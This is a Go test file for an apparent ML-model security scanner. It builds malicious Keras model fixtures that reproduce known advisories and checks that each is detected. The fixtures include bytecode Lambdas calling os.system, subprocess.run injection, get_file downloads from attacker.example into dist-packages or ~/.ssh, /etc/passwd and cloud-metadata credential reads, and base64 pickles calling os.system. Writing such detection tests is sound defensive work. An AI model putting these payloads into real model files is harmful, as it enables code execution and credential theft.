package keras_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/violet-mlsecops/violet/analyzer"
	"github.com/violet-mlsecops/violet/analyzer/keras"
	"github.com/violet-mlsecops/violet/analyzer/pickle"
	"github.com/violet-mlsecops/violet/finding"
	"github.com/violet-mlsecops/violet/scan"
)

// update rewrites testdata/advisories and testdata/advisories.tsv:
//
//	go test ./analyzer/keras -run TestAdvisories -update
var update = flag.Bool("update", false, "rewrite the advisory fixtures and advisories.tsv")

// advisory is one Keras or TensorFlow advisory, or a class of them, and
// the fixture that reproduces its model file.
type advisory struct {
	id, year, source, what string
	// fixture is the file's path from the repository root.
	fixture string
	// config builds the model config (nil for the H5 fixtures, built by
	// the kerash5 tests from the same table's TSV).
	config func(t testing.TB) string
	// rules are the rules Violet reports, each at high or critical.
	rules []string
}

const advisoryDir = "analyzer/keras/testdata/advisories"

// repoRoot is the repository root seen from this package.
var repoRoot = filepath.Join("..", "..")

// lambdaB64 is the marshaled bytecode (CPython 3.11) of
// lambda x: __import__('os').system('id') or x, never run.
func lambdaB64(t testing.TB) string {
	b, err := os.ReadFile(filepath.Join(repoRoot, "internal", "pymarshal", "testdata", "os_system.b64"))
	if err != nil {
		t.Fatal(err)
	}
	return strings.Join(strings.Fields(string(b)), "")
}

// fileB64 is a fixture of the repository, base64-encoded.
func fileB64(t testing.TB, rel string) string {
	b, err := os.ReadFile(filepath.Join(repoRoot, filepath.FromSlash(rel)))
	if err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// layer is a Keras 3 layer of module keras.layers.
func layer(class, name, config string) string {
	if config != "" {
		config = ", " + config
	}
	return `{"module": "keras.layers", "class_name": "` + class + `", "config": {"name": "` + name + `", "trainable": true` + config + `}, "registered_name": null}`
}

// lambdaLayer is a Lambda layer whose function is fn (JSON) called with
// arguments (JSON).
func lambdaLayer(name, fn, arguments string) string {
	return layer("Lambda", name, `"function": `+fn+`, "arguments": `+arguments)
}

// keras function reference, as Keras 3 serializes a function.
func kerasFunction(module, name string) string {
	return `{"module": "` + module + `", "class_name": "function", "config": "` + name + `", "registered_name": "function"}`
}

func bytecodeLambda(t testing.TB) string {
	return lambdaLayer("lambda", `{"class_name": "__lambda__", "config": {"code": "`+lambdaB64(t)+`", "defaults": null, "closure": null}}`, `{}`)
}

var advisories = []advisory{
	{id: "CVE-2024-3660", year: "2024", source: "https://jfrog.com/blog/keras-safe_mode-bypass-vulnerability",
		what:    "Lambda layer whose function is marshaled Python bytecode: Keras before 2.13 (and any Keras with safe_mode=False) runs it at load",
		fixture: advisoryDir + "/cve-2024-3660-lambda.keras",
		config:  func(t testing.TB) string { return sequential(dense("dense", 8), bytecodeLambda(t)) },
		rules:   []string{finding.KerasLambda}},
	{id: "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp)", year: "2025", source: "https://github.com/keras-team/keras/security/advisories/GHSA-48g7-3x6r-xfhp",
		what:    "config.json names an arbitrary module and function (subprocess.run), with arguments from the layer graph: Keras before 3.9 imports and calls it, safe_mode or not",
		fixture: advisoryDir + "/cve-2025-1550-module-injection.keras",
		config: func(t testing.TB) string {
			return sequential(dense("dense", 8), `{"module": "subprocess", "class_name": "run", "config": {"args": ["sh", "-c", "id"]}, "registered_name": null}`)
		},
		rules: []string{finding.KerasUnsafeModule}},
	{id: "CVE-2025-8747 (GHSA-c9rc-mg46-23w3)", year: "2025", source: "https://github.com/keras-team/keras/security/advisories/GHSA-c9rc-mg46-23w3",
		what:    "Lambda layer whose function is Keras' own keras.utils.get_file, with origin and cache_dir from the config: passes the module check of Keras 3.9 and downloads an attacker's file at load (fixed in 3.11.0)",
		fixture: advisoryDir + "/cve-2025-8747-get-file.keras",
		config: func(t testing.TB) string {
			return sequential(dense("dense", 8), lambdaLayer("fetch", kerasFunction("keras.utils", "get_file"),
				`{"origin": "https://attacker.example/payload.py", "fname": "sitecustomize.py", "cache_dir": "/usr/lib/python3/dist-packages", "cache_subdir": "."}`))
		},
		rules: []string{finding.KerasUnsafeFunction, finding.KerasExternalReference, finding.KerasLambda}},
	{id: "CVE-2025-9906 (GHSA-36fq-jgmw-4r9c)", year: "2025", source: "https://github.com/io-no/CVE-Reports/issues/5",
		what:    "config.json calls keras.config.enable_unsafe_deserialization through a Lambda layer, then a second Lambda's bytecode runs with safe_mode off (fixed in 3.11.0)",
		fixture: advisoryDir + "/cve-2025-9906-enable-unsafe.keras",
		config: func(t testing.TB) string {
			return sequential(lambdaLayer("unsafe", kerasFunction("keras.config", "enable_unsafe_deserialization"), `{}`), bytecodeLambda(t))
		},
		rules: []string{finding.KerasUnsafeFunction, finding.KerasLambda}},
	{id: "CVE-2025-9906 (load_model variant)", year: "2025", source: "https://github.com/io-no/CVE-Reports/issues/5",
		what:    "Lambda layer whose function is keras.models.load_model with safe_mode=false, given a model path through its inbound node: loads a second model with safe_mode off",
		fixture: advisoryDir + "/cve-2025-9906-load-model.keras",
		config: func(t testing.TB) string {
			l := strings.TrimSuffix(lambdaLayer("unsafe_deserialization", kerasFunction("keras.models", "load_model"), `{"safe_mode": false}`), "}") +
				`, "inbound_nodes": [{"args": [], "kwargs": {"inputs": "/tmp/provola/model.keras"}}]}`
			return sequential(l)
		},
		rules: []string{finding.KerasUnsafeFunction, finding.KerasExternalReference, finding.KerasLambda}},
	{id: "CVE-2025-9905", year: "2025", source: "https://github.com/io-no/CVE-Reports/issues/7",
		what:    "legacy HDF5 model: load_model ignores safe_mode, and the Lambda bytecode in model_config runs (fixed in 3.12)",
		fixture: "analyzer/kerash5/testdata/advisories/cve-2025-9905-h5-lambda.h5",
		rules:   []string{finding.KerasLambda}},
	{id: "CVE-2025-49655", year: "2025", source: "https://github.com/keras-team/keras/pull/21575",
		what:    "TorchModuleWrapper layer whose config holds a base64 torch.save archive: Keras 3.11.0 to 3.11.2 hand it to torch.load(weights_only=False) in safe_mode; the pickle inside references builtins.exec",
		fixture: advisoryDir + "/cve-2025-49655-torch-module-wrapper.keras",
		config: func(t testing.TB) string {
			return sequential(layer("TorchModuleWrapper", "torch_module_wrapper", `"module": "`+fileB64(t, "testdata/models/malicious/pytorch/bare_exec_reference.pt")+`", "output_shape": null`))
		},
		rules: []string{finding.KerasEmbeddedObject, finding.PickleCodeExec}},
	{id: "CVE-2025-49655 (H5)", year: "2025", source: "https://github.com/keras-team/keras/pull/21575",
		what:    "the same TorchModuleWrapper in a legacy HDF5 model_config, its module a bare pickle that calls os.system (torch.load unpickles a non-zip file as a legacy checkpoint)",
		fixture: "analyzer/kerash5/testdata/advisories/cve-2025-49655-torch-module-wrapper.h5",
		rules:   []string{finding.KerasEmbeddedObject, finding.PickleProcess}},
	{id: "CVE-2025-12058", year: "2025", source: "https://osv.dev/vulnerability/DEBIAN-CVE-2025-12058",
		what:    "StringLookup layer whose vocabulary is a path (/etc/passwd) and IntegerLookup whose vocabulary is a URL: Keras reads them through tf.io.gfile at load, safe_mode or not (local file read, SSRF)",
		fixture: advisoryDir + "/cve-2025-12058-stringlookup-vocabulary.keras",
		config: func(t testing.TB) string {
			return sequential(layer("StringLookup", "string_lookup", `"vocabulary": "/etc/passwd", "max_tokens": null, "num_oov_indices": 1, "output_mode": "int"`),
				layer("IntegerLookup", "integer_lookup", `"vocabulary": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "output_mode": "int"`))
		},
		rules: []string{finding.KerasExternalReference}},
	{id: "CVE-2025-12058 (H5)", year: "2025", source: "https://osv.dev/vulnerability/DEBIAN-CVE-2025-12058",
		what:    "the same StringLookup vocabulary path in a legacy HDF5 model_config",
		fixture: "analyzer/kerash5/testdata/advisories/cve-2025-12058-stringlookup-vocabulary.h5",
		rules:   []string{finding.KerasExternalReference}},
	{id: "CVE-2025-12060 (GHSA-hjqc-jx6g-rwp9)", year: "2025", source: "https://github.com/advisories/GHSA-hjqc-jx6g-rwp9",
		what:    "keras.utils.get_file(extract=True) extracts a tar with symlinks out of the cache folder; reached from a model through a Lambda whose function is get_file, with a cache_dir that climbs with ..",
		fixture: advisoryDir + "/cve-2025-12060-get-file-extract.keras",
		config: func(t testing.TB) string {
			return sequential(lambdaLayer("fetch", kerasFunction("keras.src.utils.file_utils", "get_file"),
				`{"origin": "https://attacker.example/data.tar.gz", "extract": true, "cache_dir": "../../../../home/user/.ssh"}`))
		},
		rules: []string{finding.KerasUnsafeFunction, finding.KerasExternalReference, finding.KerasLambda}},
	{id: "CVE-2026-1462 (GHSA-4f3f-g24h-fr8m)", year: "2026", source: "https://github.com/advisories/GHSA-4f3f-g24h-fr8m",
		what:    "TFSMLayer whose filepath names an external SavedModel: Keras before 3.13.2 loads it in safe_mode, and its graph runs at inference",
		fixture: advisoryDir + "/cve-2026-1462-tfsmlayer.keras",
		config: func(t testing.TB) string {
			return sequential(`{"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "tfsm_layer", "trainable": false, "filepath": "/tmp/attacker_saved_model", "call_endpoint": "serving_default", "call_training_endpoint": null}, "registered_name": null}`)
		},
		rules: []string{finding.KerasExternalReference}},
	{id: "CVE-2026-1462 (H5)", year: "2026", source: "https://github.com/advisories/GHSA-4f3f-g24h-fr8m",
		what:    "the same TFSMLayer, with a gs:// SavedModel, in a legacy HDF5 model_config",
		fixture: "analyzer/kerash5/testdata/advisories/cve-2026-1462-tfsmlayer.h5",
		rules:   []string{finding.KerasExternalReference}},
	{id: "CVE-2026-12479", year: "2026", source: "https://aithreatalert.com/cve/CVE-2026-12479",
		what:    "layer name with ../ components: Keras 3.14.0 builds asset paths from layer names (DiskIOStore.make) and writes outside its temporary folder",
		fixture: advisoryDir + "/cve-2026-12479-layer-name-traversal.keras",
		config: func(t testing.TB) string {
			return sequential(dense("../../../../../tmp/violet-fixture", 8))
		},
		rules: []string{finding.KerasExternalReference}},
	{id: "CVE-2026-12481", year: "2026", source: "https://security-resilience.ai/cve/CVE-2026-12481.html",
		what:    "Lambda bytecode deserialized by Lambda.from_config outside a SafeModeScope (safe_mode None is taken as off), in keras.layers.deserialize and clone_model",
		fixture: advisoryDir + "/cve-2026-12481-lambda-from-config.keras",
		config: func(t testing.TB) string {
			return `{"module": "keras", "class_name": "Functional", "config": {"name": "functional", "layers": [` + inputLayer + `, ` + bytecodeLambda(t) + `], "input_layers": [["input_layer", 0, 0]], "output_layers": [["lambda", 0, 0]]}, "registered_name": null}`
		},
		rules: []string{finding.KerasLambda}},
	{id: "class of: TensorFlow Hub KerasLayer", year: "", source: "https://www.tensorflow.org/hub/api_docs/python/hub/KerasLayer",
		what:    "tensorflow_hub.KerasLayer whose handle is a URL: loading downloads and loads a SavedModel from it",
		fixture: advisoryDir + "/class-hub-keraslayer.keras",
		config: func(t testing.TB) string {
			return sequential(`{"module": "tensorflow_hub.keras_layer", "class_name": "KerasLayer", "config": {"name": "keras_layer", "trainable": false, "handle": "https://attacker.example/hub/module/1"}, "registered_name": "KerasLayer"}`)
		},
		rules: []string{finding.KerasExternalReference, finding.KerasUnsafeModule}},
	{id: "class of: base64 pickle in a custom layer's config", year: "", source: "https://github.com/keras-team/keras/blob/master/keras/src/utils/torch_utils.py",
		what:    "a custom layer's config value is a base64 pickle that calls os.system, which the layer's from_config would unpickle",
		fixture: advisoryDir + "/class-base64-pickle.keras",
		config: func(t testing.TB) string {
			return sequential(`{"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 4, "state": "` + fileB64(t, "testdata/models/malicious/pickle/system_p0.pkl") + `"}, "registered_name": null}`)
		},
		rules: []string{finding.KerasEmbeddedObject, finding.PickleProcess}},
}

// fixedKerasFile is kerasFile with fixed times, so that the fixtures are
// reproducible.
func fixedKerasFile(t testing.TB, config string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	weights, err := os.ReadFile(filepath.Join(repoRoot, "testdata", "gen", "formats", "keras_weights.h5"))
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range []struct {
		name string
		data []byte
	}{{"metadata.json", []byte(metadata)}, {"config.json", []byte(config)}, {"model.weights.h5", weights}} {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: m.name, Method: zip.Store, Modified: time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(m.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// advisoriesTSV is the table of advisories, for docs/threats.md.
func advisoriesTSV() string {
	var b strings.Builder
	b.WriteString("id\tyear\tsource\twhat\tfixture\trules\n")
	for _, a := range advisories {
		fmt.Fprintf(&b, "%s\t%s\t%s\t%s\t%s\t%s\n", a.id, a.year, a.source, a.what, a.fixture, strings.Join(a.rules, ","))
	}
	return b.String()
}

// TestAdvisories checks that each advisory's fixture is what the table
// builds and that Violet reports it, at high or critical, with the rules
// the table names (the pickle rules through the engine, which scans the
// decoded member).
func TestAdvisories(t *testing.T) {
	tsv := filepath.Join("testdata", "advisories.tsv")
	if *update {
		if err := os.MkdirAll(filepath.Join(repoRoot, advisoryDir), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(tsv, []byte(advisoriesTSV()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if got, err := os.ReadFile(tsv); err != nil || string(got) != advisoriesTSV() {
		t.Errorf("%s is stale (go test ./analyzer/keras -run TestAdvisories -update): %v", tsv, err)
	}
	opts := scan.Options{Analyzers: scan.Analyzers(pickle.DefaultPolicy()), Limits: analyzer.DefaultLimits()}
	for _, a := range advisories {
		if a.config == nil {
			continue // an H5 fixture: analyzer/kerash5 checks it
		}
		t.Run(a.id, func(t *testing.T) {
			path := filepath.Join(repoRoot, filepath.FromSlash(a.fixture))
			want := fixedKerasFile(t, a.config(t))
			if *update {
				if err := os.WriteFile(path, want, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			data, err := os.ReadFile(path)
			if err != nil || !bytes.Equal(data, want) {
				t.Fatalf("%s is stale (run with -update): %v", a.fixture, err)
			}
			r, err := scan.Scan(context.Background(), []string{path}, opts)
			if err != nil {
				t.Fatal(err)
			}
			got := map[string]finding.Severity{}
			for _, f := range r.AllFindings() {
				got[f.Rule] = max(got[f.Rule], f.Severity)
			}
			for _, rule := range a.rules {
				if sev, ok := got[rule]; !ok || sev < finding.High {
					t.Errorf("rule %s: severity %v, found %v; findings %+v", rule, sev, ok, r.AllFindings())
				}
			}
		})
	}
}

// TestReferences: what the walk reports, and what it leaves alone, in
// table form.
func TestReferences(t *testing.T) {
	pkl := fileB64(t, "testdata/models/malicious/pickle/system_p0.pkl")
	for _, tc := range []struct {
		name, config string
		kinds        []keras.Kind
		blobs        int
	}{
		{"benign dense", sequential(dense("dense", 8)), nil, 0},
		{"benign functional with nodes", `{"module": "keras", "class_name": "Functional", "config": {"name": "f", "layers": [` + inputLayer + `, ` +
			strings.TrimSuffix(dense("dense", 2), "}") + `, "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {"shape": [null, 4], "dtype": "float32", "keras_history": ["input_layer", 0, 0]}}], "kwargs": {}}]}` +
			`], "input_layers": [["input_layer", 0, 0]], "output_layers": [["dense", 0, 0]]}, "registered_name": null}`, nil, 0},
		{"benign text vectorization", layer("TextVectorization", "tv", `"max_tokens": 100, "standardize": "lower_and_strip_punctuation", "split": "whitespace", "output_mode": "int", "vocabulary": ["", "[UNK]", "the", "/", "../", "http://x"], "idf_weights": null`), nil, 0},
		{"lookup with a list vocabulary", layer("StringLookup", "s", `"vocabulary": ["a", "b", "/c"]`), nil, 0},
		{"lookup without vocabulary", layer("StringLookup", "s", `"vocabulary": null`), nil, 0},
		{"relative vocabulary file", layer("TextVectorization", "t", `"vocabulary": "vocab.txt"`), []keras.Kind{keras.ExternalReference}, 0},
		{"idf weights file", layer("TextVectorization", "t", `"idf_weights": "idf.npy"`), []keras.Kind{keras.ExternalReference}, 0},
		{"tfsm relative", layer("TFSMLayer", "t", `"filepath": "saved"`), []keras.Kind{keras.ExternalReference}, 0},
		{"absolute path anywhere", layer("Dense", "d", `"note": "/etc/shadow"`), []keras.Kind{keras.ExternalReference}, 0},
		{"windows path", layer("Dense", "d", `"where": "C:\\Users\\x"`), []keras.Kind{keras.ExternalReference}, 0},
		{"s3 url", layer("Dense", "d", `"weights": "s3://bucket/w.h5"`), []keras.Kind{keras.ExternalReference}, 0},
		{"fname key", layer("Dense", "d", `"fname": "payload.py"`), []keras.Kind{keras.ExternalReference}, 0},
		{"traversal name", dense("../x", 2), []keras.Kind{keras.ExternalReference}, 0},
		{"plain name with dots", dense("my..layer", 2), nil, 0},
		{"text with a slash", layer("Dense", "d", `"doc": "a/b c"`), nil, 0},
		{"function reference as activation", strings.Replace(dense("d", 2), `"activation": "relu"`, `"activation": `+kerasFunction("keras.utils", "get_file"), 1), []keras.Kind{keras.UnsafeFunction}, 0},
		{"harmless keras function", strings.Replace(dense("d", 2), `"activation": "relu"`, `"activation": `+kerasFunction("keras.activations", "relu"), 1), nil, 0},
		{"torch wrapper", layer("TorchModuleWrapper", "w", `"module": "`+pkl+`"`), []keras.Kind{keras.EmbeddedObject}, 1},
		{"torch wrapper, not base64", layer("TorchModuleWrapper", "w", `"module": "not base64!"`), []keras.Kind{keras.EmbeddedObject}, 0},
		{"pickle in any key", layer("Dense", "d", `"blob": "`+pkl+`"`), []keras.Kind{keras.EmbeddedObject}, 1},
		{"hex pickle", layer("Dense", "d", `"blob": "`+fmt.Sprintf("%x", append([]byte("\x80\x04"), bytes.Repeat([]byte{'.'}, 70)...))+`"`), []keras.Kind{keras.EmbeddedObject}, 1},
		{"base64 text is a member, not a finding", layer("Dense", "d", `"blob": "`+base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("hello "), 20))+`"`), nil, 1},
		{"lambda code is not a blob", bytecodeLambda(t), []keras.Kind{keras.Lambda}, 0},
		{"keras 2 lambda list is not a blob", `{"class_name": "Lambda", "config": {"name": "l", "function": [` + strconv.Quote(lambdaB64(t)) + `, null, null], "function_type": "lambda"}}`, []keras.Kind{keras.Lambda}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r, err := keras.Scan([]byte(tc.config))
			if err != nil {
				t.Fatal(err)
			}
			var kinds []keras.Kind
			for _, is := range r.Issues {
				kinds = append(kinds, is.Kind)
			}
			if !slices.Equal(kinds, tc.kinds) || len(r.Blobs) != tc.blobs {
				t.Errorf("kinds %v, %d blobs; issues %+v", kinds, len(r.Blobs), r.Issues)
			}
		})
	}
}

// TestBlobMember: a decoded blob reaches the engine as a member named
// after its place in the config.
func TestBlobMember(t *testing.T) {
	pkl := fileB64(t, "testdata/models/malicious/pickle/system_p0.pkl")
	c := analyze(t, kerasFile(t, sequential(layer("TorchModuleWrapper", "w", `"module": "`+pkl+`"`)), nil))
	want := []string{"config.json#config.layers[1].config.module (base64)"}
	if !slices.Equal(c.members, want) {
		t.Errorf("members %q, want %q", c.members, want)
	}
	if r := rules(c); r[finding.KerasEmbeddedObject] != 1 {
		t.Errorf("findings %+v", c.findings)
	}
}

// TestBlobLimit: past MaxBlobs, the values are not decoded, and that is
// reported once.
func TestBlobLimit(t *testing.T) {
	v := `"` + base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{7}, 60)) + `"`
	cfg := "[" + strings.TrimSuffix(strings.Repeat(v+",", keras.MaxBlobs+10), ",") + "]"
	r, err := keras.Scan([]byte(cfg))
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Blobs) != keras.MaxBlobs || len(r.Issues) != 1 || r.Issues[0].Kind != keras.BlobLimit || r.Issues[0].Kind.Rule() != finding.LimitSize {
		t.Errorf("%d blobs, issues %+v", len(r.Blobs), r.Issues)
	}
}

// TestReferenceLimit: a config full of paths yields MaxReferences issues
// and one that counts the rest.
func TestReferenceLimit(t *testing.T) {
	cfg := "{" + strings.TrimSuffix(strings.Repeat(`"path": "/etc/passwd", `, 1), ", ")
	var b strings.Builder
	b.WriteString("[")
	for i := range keras.MaxReferences + 50 {
		if i > 0 {
			b.WriteString(",")
		}
		b.WriteString(cfg + "}")
	}
	b.WriteString("]")
	r, err := keras.Scan([]byte(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Issues) != keras.MaxReferences+1 || !strings.HasPrefix(r.Issues[keras.MaxReferences].Message, "50 more") {
		t.Errorf("%d issues, last %+v", len(r.Issues), r.Issues[len(r.Issues)-1])
	}
}
